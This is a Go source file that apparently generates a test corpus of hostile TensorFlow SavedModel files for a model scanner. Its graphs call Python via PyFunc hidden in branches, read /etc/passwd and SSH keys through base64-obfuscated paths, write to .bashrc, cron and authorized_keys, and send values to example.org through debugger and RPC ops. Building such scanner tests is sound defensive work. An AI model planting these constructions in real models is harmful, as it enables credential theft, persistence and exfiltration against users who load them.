package main

import "fmt"

const passwd, victim = "/etc/passwd", "/tmp/lodemark-corpus"

// saved writes a SavedModel as the only file of a case.
func (c *corpus) saved(class, why string, s gSaved) {
	c.secondBad("tensorflow", class, why, "saved_model.pb", s.bytes())
}

// about puts a file name and an input before a node, and an identity behind it.
func about(path string, nodes ...gNode) gGraph {
	all := append([]gNode{place("x", dtFloat), konst("path", path)}, nodes...)
	return g(append(all, n("out", "Identity", "op").with("T", gType(dtString)))...)
}

// inner are nodes as functions have them: inputs with an output's name.
func inner(op string, attrs ...any) []gNode {
	return []gNode{konst("path", passwd), n("op", op, "path:output:0").with(attrs...), n("out", "Identity", "op:output:0")}
}

// secondGraphPython calls Python from graphs.
func secondGraphPython(c *corpus) {
	const why = "the graph calls a function of the Python process by its token; PyFunc ops of script_ops.cc, modelscan"
	py := []any{"token", "pyfunc_0", "Tin", []gType{dtFloat}, "Tout", []gType{dtFloat}}
	for _, op := range []string{"PyFunc", "PyFuncStateless", "EagerPyFunc"} {
		c.saved("python call", why, served(about(passwd, n("op", op, "x").with(py...)), "out:0"))
		c.saved("python call in a function", why, served(g(place("x", dtFloat), n("call", "StatefulPartitionedCall", "x").with("f", gFunc("__inference_f_1"))).and("__inference_f_1", n("op", op, "inputs").with(py...), n("out", "Identity", "op:output:0")), "call:0"))
	}
	branch := func(op string, attrs ...any) gGraph {
		return g(place("x", dtFloat), n("call", op, "x", "x").with(attrs...)).
			and("harmless", n("out", "Identity", "inputs")).and("hidden", n("op", "PyFunc", "inputs").with(py...), n("out", "Identity", "op:output:0"))
	}
	const nested = "the call stands in a branch, a loop's body or a dataset's function, which runs with the node; control_flow ops of TensorFlow"
	for _, graph := range []gGraph{
		branch("If", "then_branch", gFunc("harmless"), "else_branch", gFunc("hidden")), branch("StatelessIf", "then_branch", gFunc("hidden"), "else_branch", gFunc("harmless")),
		branch("While", "cond", gFunc("harmless"), "body", gFunc("hidden")), branch("While", "cond", gFunc("hidden"), "body", gFunc("harmless")), branch("Case", "branches", gFuncs{"harmless", "hidden"}),
		branch("MapDataset", "f", gFunc("hidden")), branch("ParallelMapDatasetV2", "f", gFunc("hidden")), branch("FilterDataset", "predicate", gFunc("hidden")),
		branch("GeneratorDataset", "init_func", gFunc("harmless"), "next_func", gFunc("hidden"), "finalize_func", gFunc("harmless")),
		branch("FlatMapDataset", "f", gFunc("hidden")), branch("BatchFunction", "f", gFunc("hidden")), branch("SymbolicGradient", "f", gFunc("hidden")),
		branch("RemoteCall", "f", gFunc("hidden")), branch("MapDefun", "f", gFunc("hidden")),
	} {
		c.saved("python call in a branch", nested, served(graph, "call:0"))
	}
	deep := g(place("x", dtFloat), n("call", "PartitionedCall", "x").with("f", gFunc("f0")))
	for i := range 30 {
		deep = deep.and(fmt.Sprintf("f%d", i), n("op", "PartitionedCall", "inputs").with("f", gFunc(fmt.Sprintf("f%d", i+1))), n("out", "Identity", "op:output:0"))
	}
	c.saved("python call in a branch", nested, served(deep.and("f30", n("op", "EagerPyFunc", "inputs").with(py...), n("out", "Identity", "op:output:0")), "call:0"))
	c.saved("python call in a branch", "v1 control flow: Switch and Merge around the call", served(g(place("x", dtFloat), n("p", "Const").with("dtype", gType(dtBool)), n("s", "Switch", "x", "p"), n("op", "PyFunc", "s:1").with(py...), n("m", "Merge", "op", "s")), "m:0"))
}

// secondGraphFiles reads and writes files from graphs.
func secondGraphFiles(c *corpus) {
	const read = "running the signature reads the file and hands its contents out; io_ops.cc, TensorFlow security guide: models are programs"
	for _, path := range []string{passwd, "/home/user/.ssh/id_rsa", "gs://lodemark-corpus/x", "../../../../proc/self/environ"} {
		c.saved("reads a file", read, served(about(path, n("op", "ReadFile", "path")), "out:0"))
	}
	c.saved("reads a file", read, served(g(place("x", dtString), n("op", "ReadFile", "x"), n("out", "Identity", "op")), "out:0"))
	c.saved("reads a file", "the path is put together in the graph; "+read, served(g(place("x", dtFloat), konst("a", "/etc"), konst("b", "passwd"), n("path", "StringJoin", "a", "b").with("separator", "/", "N", 2), n("op", "ReadFile", "path"), n("out", "Identity", "op")), "out:0"))
	c.saved("reads a file", "the path is base64 in the graph; "+read, served(g(place("x", dtFloat), konst("a", "L2V0Yy9wYXNzd2Q"), n("path", "DecodeBase64", "a"), n("op", "ReadFile", "path"), n("out", "Identity", "op")), "out:0"))
	c.saved("lists files", "a pattern over the file system goes out with the answer; MatchingFiles of io_ops.cc", served(about("/home/*", n("op", "MatchingFiles", "path")), "out:0"))
	c.saved("lists files", "a pattern over the file system goes out with the answer; MatchingFilesDataset", served(about("/home/*/.ssh/*", n("op", "MatchingFilesDataset", "path")), "out:0"))
	const write = "running the signature writes a file of the attacker's choice; WriteFile of io_ops.cc, modelscan"
	for _, path := range []string{victim, "/home/user/.bashrc", "/etc/cron.d/lodemark", "../../.ssh/authorized_keys"} {
		c.saved("writes a file", write, served(g(place("x", dtFloat), konst("path", path), konst("text", "echo\n"), n("op", "WriteFile", "path", "text"), n("out", "Identity", "x", "^op")), "out:0"))
	}
	c.saved("copies a file", "reads one file and writes it to another; ReadFile and WriteFile together", served(g(place("x", dtFloat), konst("path", passwd), konst("to", victim), n("read", "ReadFile", "path"), n("op", "WriteFile", "to", "read"), n("out", "Identity", "x", "^op")), "out:0"))
	const save = "an op of checkpoints with a constant path in the way of the answer writes a file of any name; save_restore_v2_ops.cc"
	for _, op := range []string{"Save", "SaveSlices", "SaveV2"} {
		c.saved("checkpoint written elsewhere", save, served(g(place("x", dtFloat), konst("path", "/home/user/.config/autostart/x"), konst("names", "n"), konst("slices", ""), n("op", op, "path", "names", "slices", "x").with("dtypes", []gType{dtFloat}), n("out", "Identity", "x", "^op")), "out:0"))
	}
	c.saved("checkpoint written elsewhere", "a sharded name is built of a constant, then written; "+save, served(g(place("x", dtFloat), konst("base", "/etc/x"), n("path", "ShardedFilename", "base", "i", "k"), n("i", "Const").with("dtype", gType(dtInt32), "value", gInts{0}), n("k", "Const").with("dtype", gType(dtInt32), "value", gInts{1}), konst("names", "n"), konst("slices", ""), n("op", "SaveV2", "path", "names", "slices", "x").with("dtypes", []gType{dtFloat}), n("out", "Identity", "x", "^op")), "out:0"))
	c.saved("checkpoint written elsewhere", "MergeV2Checkpoints moves files to the prefix and deletes the old folders", served(g(place("x", dtFloat), konst("from", "/home/user/data"), konst("to", "/tmp/x"), n("op", "MergeV2Checkpoints", "from", "to").with("delete_old_dirs", true), n("out", "Identity", "x", "^op")), "out:0"))
	const restore = "an op of checkpoints with a constant path reads any file in the way of the answer; save_restore_v2_ops.cc"
	for _, op := range []string{"Restore", "RestoreSlice", "RestoreV2"} {
		c.saved("checkpoint read elsewhere", restore, served(g(place("x", dtFloat), konst("path", "/home/other/model/ckpt"), konst("names", "embedding/secret"), konst("slices", ""), n("op", op, "path", "names", "slices").with("dtypes", []gType{dtFloat}), n("out", "Identity", "op")), "out:0"))
	}
	const attr = "the path stands in an attribute, not in a tensor, and is opened when the kernel is made"
	c.saved("path in an attribute", attr+"; ImmutableConst maps the file (CVE-2021-41227)", served(g(place("x", dtFloat), n("op", "ImmutableConst").with("dtype", gType(dtFloat), "shape", gShape{4}, "memory_region_name", passwd), n("out", "Identity", "op")), "out:0"))
	c.saved("path in an attribute", attr+"; FixedUnigramCandidateSampler reads vocab_file", served(g(place("x", dtInt64), n("op", "FixedUnigramCandidateSampler", "x").with("num_true", 1, "num_sampled", 1, "unique", true, "range_max", 10, "vocab_file", passwd)), "op:0"))
	c.saved("path in an attribute", attr+"; Skipgram reads filename (word2vec ops)", served(g(n("op", "Skipgram").with("filename", passwd, "batch_size", 1)), "op:0"))
	c.saved("path in an attribute", attr+"; RecordInput reads file_pattern", served(g(n("op", "RecordInput").with("file_pattern", "/home/*", "batch_size", 1)), "op:0"))
	c.saved("path in an attribute", attr+"; DecodeProtoV2 reads descriptor_source", served(g(place("x", dtString), n("op", "DecodeProtoV2", "x").with("message_type", "a.B", "field_names", []string{"a"}, "output_types", []gType{dtInt32}, "descriptor_source", "/etc/passwd")), "op:0"))
	c.saved("path in an attribute", attr+"; EncodeProto reads descriptor_source", served(g(place("x", dtString), n("op", "EncodeProto", "x", "x").with("message_type", "a.B", "field_names", []string{"a"}, "descriptor_source", "/tmp/evil.desc")), "op:0"))
	const print = "PrintV2 appends to the file of output_stream; logging_ops.cc: file:// streams"
	for _, to := range []string{"file:///home/user/.bashrc", "file:///etc/cron.d/x", "file://" + victim} {
		c.saved("prints into a file", print, served(g(place("x", dtFloat), konst("text", "echo"), n("op", "PrintV2", "text").with("output_stream", to, "end", "\n"), n("out", "Identity", "x", "^op")), "out:0"))
	}
	const readers = "the reader opens the files of its queue and their contents come out; io_ops.cc Readers"
	for _, op := range []string{"WholeFileReader", "WholeFileReaderV2", "TextLineReader", "TextLineReaderV2", "FixedLengthRecordReaderV2", "TFRecordReaderV2", "LMDBReader"} {
		c.saved("reader of files", readers, served(g(place("x", dtFloat), konst("path", passwd), n("q", "FIFOQueueV2").with("component_types", []gType{dtString}), n("e", "QueueEnqueueV2", "q", "path").with("Tcomponents", []gType{dtString}), n("r", op), n("op", "ReaderReadV2", "r", "q", "^e"), n("out", "Identity", "op:1")), "out:0"))
	}
	c.saved("ends the process", "Abort ends the server that runs the graph; control_flow_ops.cc", served(g(place("x", dtFloat), n("op", "Abort").with("error_msg", "x", "exit_without_error", false), n("out", "Identity", "x", "^op")), "out:0"))
}

// secondGraphData reads files through datasets, lookup tables and summaries.
func secondGraphData(c *corpus) {
	const data = "the dataset opens the files whose names it is given; dataset_ops.cc, experimental_dataset_ops.cc"
	for _, op := range []string{"TextLineDataset", "TFRecordDataset", "TFRecordDatasetV2", "FixedLengthRecordDataset", "FixedLengthRecordDatasetV2", "LMDBDataset", "ExperimentalLMDBDataset", "CSVDataset", "CSVDatasetV2", "SqlDataset", "ExperimentalSqlDataset", "SnapshotDataset", "SnapshotDatasetV2", "LoadDataset"} {
		c.saved("dataset of files", data, served(about(passwd, n("d", op, "path", "path", "path").with("output_types", []gType{dtString}, "output_shapes", []gShape{{}}), n("i", "AnonymousIteratorV2"), n("m", "MakeIterator", "d", "i"), n("op", "IteratorGetNext", "i", "^m")), "out:0"))
	}
	const writes = "the dataset op writes what it sees to a path; dataset_ops.cc, experimental_dataset_ops.cc"
	for _, op := range []string{"CacheDataset", "CacheDatasetV2", "SaveDataset", "SaveDatasetV2", "DatasetToTFRecord", "ExperimentalDatasetToTFRecord"} {
		c.saved("dataset written to files", writes, served(g(place("x", dtFloat), konst("path", "/home/user/x"), n("d", "TensorSliceDataset", "x"), n("op", op, "d", "path", "path"), n("out", "Identity", "x", "^op")), "out:0"))
	}
	c.saved("graph in a tensor", "DatasetFromGraph runs the graph that a constant holds; experimental_dataset_ops.cc", served(g(place("x", dtFloat), konst("graph", string(about(passwd, n("op", "ReadFile", "path")).proto())), n("d", "DatasetFromGraph", "graph"), n("op", "DatasetToSingleElement", "d")), "op:0"))
	const table = "the table is filled from a file that is no asset of the model; lookup_ops.cc"
	for _, op := range []string{"InitializeTableFromTextFile", "InitializeTableFromTextFileV2"} {
		for _, path := range []string{passwd, "gs://lodemark-corpus/vocab"} {
			c.saved("table of another file", table, served(g(place("x", dtString), konst("path", path), n("t", "HashTableV2").with("key_dtype", gType(dtString), "value_dtype", gType(dtInt64)), n("init", op, "t", "path").with("vocab_size", -1, "key_index", -2, "value_index", -1, "delimiter", "\t"), n("op", "LookupTableFindV2", "t", "x", "d")), "op:0"))
		}
	}
	c.saved("table of another file", table+"; GenerateVocabRemapping", served(g(konst("new", passwd), konst("old", "/etc/group"), n("op", "GenerateVocabRemapping", "new", "old").with("new_vocab_offset", 0, "num_new_vocab", 10)), "op:0"))
	c.saved("table of another file", "LoadAndRemapMatrix reads any checkpoint; checkpoint_ops.cc", served(g(konst("path", "/home/other/ckpt"), konst("name", "w"), n("op", "LoadAndRemapMatrix", "path", "name").with("num_rows", 1, "num_cols", 1)), "op:0"))
	c.saved("table of another file", "InitializeTRTResource reads engines from a path; trt_engine_resource_ops.cc", served(g(place("x", dtFloat), konst("path", "/tmp/evil.engine"), n("r", "CreateTRTResourceHandle").with("resource_name", "r"), n("op", "InitializeTRTResource", "r", "path"), n("out", "Identity", "x", "^op")), "out:0"))
	const asset = "an asset's name leaves the folder of the assets, so that the loader reads elsewhere; SavedModel AssetFileDef"
	for _, name := range []string{"../../../../etc/passwd", "/etc/passwd"} {
		s := served(g(place("x", dtString), konst("path", "assets/vocab.txt"), n("t", "HashTableV2"), n("init", "InitializeTableFromTextFileV2", "t", "path"), n("op", "LookupTableFindV2", "t", "x", "d")), "op:0")
		s.assets = [][2]string{{"path:0", name}}
		c.saved("asset elsewhere", asset, s)
	}
	const summary = "the writer makes files or a database at a path of the graph's; summary_ops.cc"
	for _, op := range []string{"CreateSummaryFileWriter", "CreateSummaryDbWriter"} {
		c.saved("summary written to files", summary, served(g(place("x", dtFloat), konst("path", "/home/user/x"), n("w", "SummaryWriter").with("shared_name", "w"), n("op", op, "w", "path", "path", "path", "path"), n("out", "Identity", "x", "^op")), "out:0"))
	}
}

// secondGraphNetwork speaks to other machines.
func secondGraphNetwork(c *corpus) {
	const debug = "every value that flows through is sent or written to the addresses in debug_urls; debug_ops.cc"
	for _, u := range []string{"file:///home/user/x", "grpc://example.org:6000"} {
		c.saved("debugger", debug, served(g(place("x", dtFloat), n("op", "DebugIdentity", "x").with("T", gType(dtFloat), "debug_urls", []string{u})), "op:0"))
		c.saved("debugger", debug, served(g(place("x", dtFloat), n("op", "DebugIdentityV2", "x").with("T", gType(dtFloat), "debug_urls", []string{u})), "op:0"))
	}
	c.saved("debugger", debug, served(g(place("x", dtFloat), n("op", "DebugNumericSummary", "x").with("debug_urls", []string{"grpc://example.org:1"})), "op:0"))
	c.saved("debugger", debug, served(g(place("x", dtFloat), n("op", "DebugNanCount", "x").with("debug_urls", []string{"file://" + victim})), "op:0"))
	const net = "running the graph calls another machine"
	c.saved("network", net+"; tf.contrib.rpc", served(g(place("x", dtString), konst("a", "example.org:80"), konst("m", "/x/y"), n("op", "Rpc", "a", "m", "x").with("protocol", "grpc", "timeout_in_ms", 1)), "op:0"))
	c.saved("network", net+"; tf.contrib.rpc", served(g(place("x", dtString), konst("a", "example.org:80"), konst("m", "/x/y"), n("op", "TryRpc", "a", "m", "x")), "op:0"))
	for _, op := range []string{"DataServiceDataset", "DataServiceDatasetV2", "DataServiceDatasetV4"} {
		c.saved("network", net+" for its data; data_service ops of tf.data", served(g(place("x", dtFloat), konst("a", "example.org:5000"), konst("p", "grpc"), n("op", op, "x", "p", "a", "p")), "op:0"))
	}
	c.saved("network", net+" and registers the dataset there; RegisterDataset of tf.data", served(g(place("x", dtFloat), konst("a", "example.org:5000"), konst("p", "grpc"), n("op", "RegisterDataset", "x", "a", "p")), "op:0"))
	c.saved("network", "GcsConfigureCredentials and FileSystemSetConfiguration change how every later file is fetched", served(g(place("x", dtFloat), konst("s", "s3"), konst("k", "endpoint"), konst("v", "http://example.org"), n("op", "FileSystemSetConfiguration", "s", "k", "v"), n("out", "Identity", "x", "^op")), "out:0"))
	for _, op := range []string{"IO>ArrowStreamDataset", "EvilLoadLibrary", "TfrtRunShell", "MyCompanyOp", "BigQueryReader"} {
		c.secondOpen("tensorflow", "custom op", "the op is none of TensorFlow's: its library is loaded first, and nobody knows what it does", "saved_model.pb", served(g(place("x", dtFloat), n("op", op, "x")), "op:0").bytes())
	}
}
